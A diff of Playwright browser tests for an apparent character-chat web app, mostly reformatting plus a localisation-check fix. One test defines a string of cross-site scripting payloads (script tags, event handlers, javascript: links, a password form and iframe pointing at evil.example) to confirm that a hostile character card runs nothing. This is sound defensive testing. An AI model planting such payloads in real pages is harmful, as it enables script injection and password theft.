@@ -71,7 +71,9 @@ def test_cards_dropped_on_the_library_come_in_and_each_file_is_reported(ada: Per
     expect(report.get_by_role("heading")).to_have_text(re.compile("4 characters came in, 2 did not"), timeout=60_000)
     for name in ("anna.png", "bert.json", "cleo.charx", "huge.png"):
         expect(report.get_by_role("listitem").filter(has_text=name)).to_contain_text("taken in")
-    expect(report.get_by_role("listitem").filter(has_text="holiday.png")).to_contain_text("This picture holds no character.")
+    expect(report.get_by_role("listitem").filter(has_text="holiday.png")).to_contain_text(
+        "This picture holds no character."
+    )
     expect(report.get_by_role("listitem").filter(has_text="notes.txt").locator(".note").first).not_to_be_empty()
     expect(characters(page)).to_have_count(6)
     for name in ("Anna", "Bert", "Cleo", "Dora"):
@@ -138,7 +140,9 @@ def test_a_connection_is_added_lists_its_models_answers_and_is_used(ada: Person,
     model = sheet.get_by_role("combobox", name="Model")
     model.fill("paced-ttft20-tps50-n6")
     sheet.get_by_role("button", name="Test").click()
-    expect(sheet.get_by_role("status")).to_contain_text(re.compile(r"cannot be reached|does not answer|not .*reach", re.I))
+    expect(sheet.get_by_role("status")).to_contain_text(
+        re.compile(r"cannot be reached|does not answer|not .*reach", re.I)
+    )
     sheet.get_by_label("Address").fill(ada.model)
     model.fill("")
     model.press("ArrowDown")
@@ -195,7 +199,9 @@ def test_a_presets_sliders_are_saved_as_they_are_moved(ada: Person, page: Page) 
     assert after > before
     expect(page.get_by_text("Saved.", exact=True)).to_be_visible()
     page.reload()
-    expect(page.get_by_role("slider", name="Temperature")).to_have_attribute("aria-valuenow", re.compile(rf"^{after:g}"))
+    expect(page.get_by_role("slider", name="Temperature")).to_have_attribute(
+        "aria-valuenow", re.compile(rf"^{after:g}")
+    )
 
 
 def test_theme_and_language_change_at_once_and_stay(ada: Person, page: Page) -> None:
@@ -214,9 +220,9 @@ def test_theme_and_language_change_at_once_and_stay(ada: Person, page: Page) -> 
 
 
 # What is the same in both languages.
-_SAME = set(
+_SAME = frozenset(
     "TavernAI Plus PNG JSON CHARX YAML JSONL English Top Min tavern test ada Ctrl Enter Esc Shift UTC Chrome Chromium "
-    "Linux Typical OpenAI SillyTavern START char user original Python urllib".split()
+    "Linux Typical OpenAI SillyTavern START char user original Python urllib".split()  # noqa: SIM905 - a list of words reads best as words
 )
 
 
@@ -243,10 +249,13 @@ def test_no_english_is_left_over_in_chinese(
     expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
     expect(page.get_by_role("heading").first).to_be_visible()
     seen = page.evaluate(
-        """() => [document.title, document.body.innerText, ...[...document.body.querySelectorAll('*')].flatMap(
-             (node) => ['aria-label', 'placeholder', 'title', 'alt'].map((name) => node.getAttribute(name) ?? ''))].join(' ')"""
+        """() => [document.title, document.body.innerText, ...[...document.body.querySelectorAll('*')].flatMap((node) =>
+             ['aria-label', 'placeholder', 'title', 'alt'].map((name) => node.getAttribute(name) ?? ''))].join(' ')"""
     )
-    words = set(re.findall(r"[A-Za-z]{3,}", seen.replace(wen.name, " ").replace(wen.email, " ")))
+    # What is theirs to name may be in any language.
+    for name in (wen.name, wen.email, *(preset["name"] for preset in wen.ask("GET", "/presets")["items"])):
+        seen = seen.replace(name, " ")
+    words = set(re.findall(r"[A-Za-z]{3,}", seen))
     assert words - _SAME == set()
 
 
@@ -255,7 +264,7 @@ HOSTILE = """Look <script>window.__pwned = 1</script><img src=x onerror="window.
 <a href="javascript:window.__pwned=3">click me</a> [or me](javascript:window.__pwned=4)
 <svg onload="window.__pwned = 5"><script>window.__pwned = 6</script></svg>
 <iframe src="https://evil.example/"></iframe><style>body { display: none }</style>
-<div style="position: fixed; inset: 0; background: url(https://evil.example/3.png)" onclick="window.__pwned = 7">over</div>
+<div style="position: fixed; inset: 0; background: url(https://evil.example/3)" onclick="window.__pwned=7">over</div>
 <form action="https://evil.example/"><input name="password"><button>Send it</button></form>
 <details open ontoggle="window.__pwned = 8"><summary>more</summary></details>
 <video src="https://evil.example/4.mp4" autoplay></video><base href="https://evil.example/">
@@ -273,7 +282,13 @@ def test_a_hostile_card_runs_nothing_and_calls_nobody(ada: Person, window: Calla
         tags=["<b>bold</b>"],
     )
     character_id = ada.ask("GET", f"/chats/{chat_id}")["chat"]["character_id"]
-    for path in ("/library", f"/library/{character_id}", f"/library/{character_id}/edit", "/chats", f"/chats/{chat_id}"):
+    for path in (
+        "/library",
+        f"/library/{character_id}",
+        f"/library/{character_id}/edit",
+        "/chats",
+        f"/chats/{chat_id}",
+    ):
         page.goto(path, wait_until="networkidle")
         expect(page.get_by_text("Mallory").first).to_be_visible()
         assert page.evaluate("window.__pwned") is None
@@ -282,7 +297,9 @@ def test_a_hostile_card_runs_nothing_and_calls_nobody(ada: Person, window: Calla
     expect(held).to_be_visible()
     said = story.turns.last.locator(".said")
     assert said.locator("script, iframe, style, form, input, svg, video, base, [style], [onclick]").count() == 0
-    handlers = "node => [...node.querySelectorAll('*')].flatMap(one => one.getAttributeNames()).filter(n => /^on/.test(n))"
+    handlers = (
+        "node => [...node.querySelectorAll('*')].flatMap(one => one.getAttributeNames()).filter(n => /^on/.test(n))"
+    )
     assert said.evaluate(handlers) == []
     for link in said.get_by_text(re.compile("click me|or me")).all():
         assert not (link.get_attribute("href") or "").startswith("javascript")
